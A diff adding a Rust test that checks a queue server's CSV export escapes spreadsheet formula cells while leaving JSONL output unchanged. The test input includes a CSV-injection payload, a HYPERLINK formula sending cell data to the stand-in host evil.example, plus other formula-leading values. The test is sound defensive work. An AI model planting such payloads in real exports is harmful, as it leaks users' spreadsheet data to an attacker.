@@ -282,6 +282,51 @@ fn parse_csv(text: &str) -> Vec<Vec<String>> {
 }
 
 #[tokio::test]
+async fn export_csv_neutralises_formula_cells() {
+    let s = TestServer::fast("").await;
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let m = s
+        .publish(
+            "-csv",
+            json!({"payload": -5, "key": "@SUM(1+1)", "idempotency_key": "+cmd",
+                   "failed": {"class": "permanent", "message": evil}}),
+        )
+        .await;
+    let (st, text) = s
+        .get_text("/v1/messages/export?queue=-csv&format=csv")
+        .await;
+    assert_eq!(st, 200, "{text}");
+    let rows = parse_csv(&text);
+    let header = &rows[0];
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let r = rows
+        .iter()
+        .find(|r| r[0] == id_of(&m))
+        .unwrap_or_else(|| panic!("row missing: {text}"));
+    assert_eq!(r[col("last_error")], format!("'{evil}"), "{text}");
+    assert_eq!(r[col("key")], "'@SUM(1+1)", "{text}");
+    assert_eq!(r[col("idempotency_key")], "'+cmd", "{text}");
+    assert_eq!(r[col("payload")], "'-5", "{text}");
+    assert_eq!(r[col("queue")], "'-csv", "{text}");
+    // No cell of the file starts a formula.
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "formula cell {cell:?} in {text}"
+            );
+        }
+    }
+    // JSON lines are data for programs, not spreadsheets: unchanged.
+    let (_, text) = s
+        .get_text("/v1/messages/export?queue=-csv&format=jsonl")
+        .await;
+    let line: Value = serde_json::from_str(text.trim()).unwrap();
+    assert_eq!(line["last_error"]["message"], evil, "{text}");
+    s.stop().await;
+}
+
+#[tokio::test]
 async fn export_csv_and_jsonl() {
     let s = TestServer::fast("").await;
     let tricky = json!({"note": "a,b \"c\"\nline two", "n": 1});
